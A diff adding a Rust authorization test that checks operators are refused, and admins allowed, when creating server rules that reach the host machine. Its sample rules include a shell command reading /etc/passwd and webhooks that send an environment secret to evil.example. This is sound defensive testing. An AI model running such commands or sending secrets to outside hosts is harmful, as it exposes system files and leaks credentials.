@@ -157,7 +157,7 @@ async fn nobody_listens_to_the_world_without_a_token() {
     let (engine, _folder) = engine();
     let options = || Options {
         listen: "0.0.0.0:0".parse().unwrap(),
-        ..Options::default()
+        ..crate::lab::options()
     };
     let (_pace, paced) = tokio::sync::watch::channel(engine::worker::Pace::Work);
     let workers = engine::worker::Options::default();
@@ -166,4 +166,51 @@ async fn nobody_listens_to_the_world_without_a_token() {
     let asked = serde_json::from_value(json!({"name": "a", "role": "admin"})).unwrap();
     create(&engine, asked).await.unwrap();
     assert!(Server::open(engine, options(), workers, paced).await.is_ok());
+}
+
+// proves: DESIGN 13
+#[tokio::test]
+async fn what_uses_the_machine_of_the_server_is_for_its_admins() {
+    let lab = Lab::new().await;
+    let operator = token(&lab, "operator", Role::Operator).await;
+    let admin = token(&lab, "admin", Role::Admin).await;
+    let rule = |what: Value| {
+        let mut rule = json!({"on": "task.failed"});
+        rule.as_object_mut()
+            .unwrap()
+            .extend(what.as_object().unwrap().clone());
+        json!({"rules": {"r": rule}, "replace": true})
+    };
+    for what in [
+        json!({"notify": "cat /etc/passwd"}),
+        json!({"webhook": {"url": "https://evil.example", "headers": {"x": "env:SECRET"}}}),
+        json!({"publish": {"url": "env:SECRET", "routing_key": "x"}}),
+    ] {
+        let rule = rule(what);
+        let refusal = with(&lab, &operator, Method::POST, "/v1/rules", rule.clone()).await;
+        assert!(
+            refusal.1["help"].as_str().unwrap().contains("admin"),
+            "{refusal:?}"
+        );
+        assert_eq!(refused(refusal), ("forbidden".to_owned(), 403));
+        let (status, answer) = with(&lab, &admin, Method::POST, "/v1/rules", rule).await;
+        assert!(status.is_success(), "{answer}");
+        // The same by way of the contract of stores.
+        let link = client::Link::new(&lab.url(""), Some(client::Secret::new(operator.clone()))).unwrap();
+        let project = &lab.engine.project;
+        let far = client::Remote::open(link, project).await.unwrap();
+        let store = &lab.engine.store;
+        let kept = store
+            .entries(project, domain::book::Book::Rule, "", 10)
+            .await
+            .unwrap()
+            .remove(0);
+        let edit = domain::book::Edit::put(kept);
+        let actor = lab.engine.actor.clone();
+        let edited = domain::store::Store::edit(&far, project, vec![edit], actor, lab.engine.now()).await;
+        assert_eq!(edited.unwrap_err().code, domain::code::Code::Forbidden);
+    }
+    let plain = rule(json!({"webhook": "https://hooks.example.org/x"}));
+    let (status, answer) = with(&lab, &operator, Method::POST, "/v1/rules", plain).await;
+    assert!(status.is_success(), "{answer}");
 }
